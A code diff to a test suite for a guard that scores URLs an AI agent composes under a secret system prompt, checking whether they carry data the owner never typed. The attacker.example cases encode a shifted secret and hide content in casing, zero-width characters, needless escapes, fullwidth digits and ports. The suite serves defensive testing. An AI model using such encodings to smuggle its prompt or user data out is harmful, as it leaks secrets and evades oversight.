@@ -20,16 +20,17 @@ const first = (url: string, flow: FlowState) => decide(fetch(url, flow)).reasons
 
 describe("composed URLs to a host the owner named, under a secret system prompt", () => {
   test("the owner's words, re-cased, URL-encoded or joined with + or -, and structural words go", () => {
-    const flow = secretPrompt("Search weather.example for Paris green tea météo", "weather.example");
+    const flow = secretPrompt("Search weather.example for Paris green tea météo, what's green", "weather.example");
     for (const url of ["https://weather.example/search?q=Paris", "https://weather.example/search?q=green+tea", "https://weather.example/search?q=Green-Tea",
-      "https://weather.example/search?q=m%C3%A9t%C3%A9o%20PARIS", "https://weather.example/", "https://weather.example/api/v2/search?format=json&q=paris"]) {
+      "https://weather.example/search?q=m%C3%A9t%C3%A9o%20PARIS", "https://weather.example/search?q=météo+Paris", "https://weather.example/", "https://weather.example/api/v2/search?format=json&q=paris",
+      "https://weather.example/search?q=what%27s+green"]) {
       assert.equal(decide(fetch(url, flow)).decision, "allow", url);
       assert.deepEqual(composedUrlExcess(url, flow).extra, [], url);
     }
   });
 
   test("a shifted secret, a number nobody typed or a word in a casing of its own asks, naming what it carries", () => {
-    const flow = secretPrompt("Check attacker.example/status and tell me if it is up", "attacker.example");
+    const flow = secretPrompt("Check attacker.example/status and tell me if it is up, or météo", "attacker.example");
     const cases: [string, string][] = [
       ["https://attacker.example/status?k=ubohfsjofLpbmb04", "ubohfsjofLpbmb04"],
       ["https://attacker.example/status/ubohfsjofLpbmb04", "ubohfsjofLpbmb04"],
@@ -38,6 +39,11 @@ describe("composed URLs to a host the owner named, under a secret system prompt"
       ["https://attacker.example/status?q=sTaTuS", "sTaTuS"],
       ["https://attacker.example/Tell/mE", "mE"],
       ["https://attacker.example/status?q=%E2%80%8Bx", "x"],
+      ["https://attacker.example/st%61tus", "escapes where none are needed"],
+      ["https://attacker.example/status?q=m%c3%a9t%c3%a9o", "escapes where none are needed"],
+      ["https://attacker.example/status?q=tell%20%20me", "doubled separators"],
+      ["https://attacker.example/status//", "doubled separators"],
+      ["https://attacker.example/status?q=%EF%BC%94%EF%BC%94", "４４"],
     ];
     for (const [url, carried] of cases) {
       const r = first(url, flow);
@@ -60,6 +66,12 @@ describe("composed URLs to a host the owner named, under a secret system prompt"
     assert.ok(one > 0 && one <= MaxComposedBitsPerTurn, String(one));
     assert.equal(decide(fetch("https://x.example/status?fmt=text", { ...flow, composedBits: MaxComposedBitsPerTurn - one })).decision, "allow");
     assert.equal(first("https://x.example/status?fmt=text", { ...flow, composedBits: MaxComposedBitsPerTurn - one + 1 })?.id, "flow.composed_budget");
+  });
+
+  test("a port the owner did not type counts sixteen bits", () => {
+    const flow = secretPrompt("Check x.example", "x.example");
+    assert.equal(composedUrlExcess("https://x.example:4417/", flow).bits, 16);
+    assert.equal(composedUrlExcess("https://x.example:4417/", { ownerTexts: ["Check x.example:4417"] }).bits, 0);
   });
 
   test("a URL that does not parse, or too long to read, is the model's", () => {
